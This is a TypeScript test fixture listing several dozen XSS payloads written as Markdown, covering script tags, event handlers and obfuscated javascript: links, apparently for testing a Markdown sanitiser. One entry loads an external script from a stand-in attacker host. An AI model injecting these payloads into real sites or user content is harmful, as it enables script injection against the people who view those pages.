/**
 * XSS payloads, part one: script tags, event handlers and javascript: links (see xss-payloads.ts).
 */
import type { XssPayload } from './xss-payloads';

export const markupPayloads: XssPayload[] = [
	// Script tags.
	{
		name: 'plain script',
		category: 'script',
		markdown: '<script>alert(1)</script>',
	},
	{
		name: 'upper-case external script',
		category: 'script',
		markdown: '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
	},
	{
		name: 'nested script',
		category: 'script',
		markdown: '<scr<script>ipt>alert(1)</scr</script>ipt>',
	},
	{
		name: 'unclosed script',
		category: 'script',
		markdown: '<script>alert(1)',
	},
	{
		name: 'script with newline in tag',
		category: 'script',
		markdown: '<script\n>alert(1)</script\n>',
	},
	{
		name: 'script inside a paragraph',
		category: 'script',
		markdown: 'Hello <script>alert(1)</script> world',
	},
	{
		name: 'script in a list item',
		category: 'script',
		markdown: '- one\n- <script>alert(1)</script>',
	},
	{
		name: 'script in a table cell',
		category: 'script',
		markdown: '| a |\n|---|\n| <script>alert(1)</script> |',
	},
	{
		name: 'script in link text',
		category: 'script',
		markdown: '[<script>alert(1)</script>](https://example.com)',
	},
	{
		name: 'script in a blockquote',
		category: 'script',
		markdown: '> <script>alert(1)</script>',
	},
	{
		name: 'script in a fenced code block',
		category: 'script',
		markdown: '```html\n<script>alert(1)</script>\n```',
		harmlessEvenUnsanitised: true,
	},

	// Event handlers.
	{
		name: 'img onerror',
		category: 'event-handler',
		markdown: '<img src=x onerror=alert(1)>',
	},
	{
		name: 'img onerror quoted, self-closed',
		category: 'event-handler',
		markdown: 'Look: <img src="x" onerror="alert(1)" />',
	},
	{
		name: 'svg onload',
		category: 'event-handler',
		markdown: '<svg onload=alert(1)>',
	},
	{
		name: 'body onload',
		category: 'event-handler',
		markdown: '<body onload=alert(1)>',
	},
	{
		name: 'iframe onload',
		category: 'event-handler',
		markdown: '<iframe onload=alert(1) src="https://example.com"></iframe>',
	},
	{
		name: 'div onmouseover',
		category: 'event-handler',
		markdown: '<div onmouseover="alert(1)">hover me</div>',
	},
	{
		name: 'link onclick',
		category: 'event-handler',
		markdown: 'A <a href="https://example.com" onclick="alert(1)">link</a>',
	},
	{
		name: 'details ontoggle',
		category: 'event-handler',
		markdown: '<details open ontoggle=alert(1)>',
	},
	{
		name: 'handler with entity-encoded code',
		category: 'event-handler',
		markdown: '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>',
	},

	// javascript: links.
	{
		name: 'javascript link',
		category: 'javascript-link',
		markdown: '[click](javascript:alert(1))',
	},
	{
		name: 'mixed-case javascript link',
		category: 'javascript-link',
		markdown: '[click](JaVaScRiPt:alert(1))',
	},
	{
		name: 'decimal entity javascript link',
		category: 'javascript-link',
		markdown: '[click](&#106;avascript:alert(1))',
	},
	{
		name: 'hex entity javascript link',
		category: 'javascript-link',
		markdown: '[click](&#x6A;avascript:alert(1))',
	},
	{
		name: 'fully entity-encoded javascript link',
		category: 'javascript-link',
		markdown:
			'[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))',
	},
	{
		name: 'tab inside the scheme',
		category: 'javascript-link',
		markdown: '[click](<java\tscript:alert(1)>)',
	},
	{
		name: 'entity tab inside the scheme',
		category: 'javascript-link',
		markdown: '[click](java&#x09;script:alert(1))',
	},
	{
		name: 'entity newline inside the scheme',
		category: 'javascript-link',
		markdown: '[click](java&#x0A;script:alert(1))',
	},
	{
		name: 'leading spaces',
		category: 'javascript-link',
		markdown: '[click](   javascript:alert(1))',
	},
	{
		name: 'leading entity space',
		category: 'javascript-link',
		markdown: '[click](&#32;javascript:alert(1))',
	},
	{
		name: 'colon as an entity',
		category: 'javascript-link',
		markdown: '[click](javascript&colon;alert(1))',
	},
	{
		name: 'javascript link with title',
		category: 'javascript-link',
		markdown: '[click](javascript:alert(1) "title")',
	},
	{
		name: 'raw html javascript link',
		category: 'javascript-link',
		markdown: '<a href="javascript:alert(1)">click</a>',
	},
	{
		name: 'raw html link with tab and entities',
		category: 'javascript-link',
		markdown: '<a href=" &#14; jav&#x09;ascript:alert(1)">click</a>',
	},
	{
		name: 'control character before the scheme',
		category: 'javascript-link',
		markdown: '[click](<\u0001javascript:alert(1)>)',
	},
	{
		name: 'raw html link with a control character before the scheme',
		category: 'javascript-link',
		markdown: '<a href="\u0001javascript:alert(1)">click</a>',
	},
	{
		name: 'raw html link with a tab inside the scheme',
		category: 'javascript-link',
		markdown: '<a href="java\tscript:alert(1)">click</a>',
	},
	{
		name: 'raw html mixed-case link with leading spaces',
		category: 'javascript-link',
		markdown: '<a href="  JaVaScRiPt:alert(1)">click</a>',
	},
];
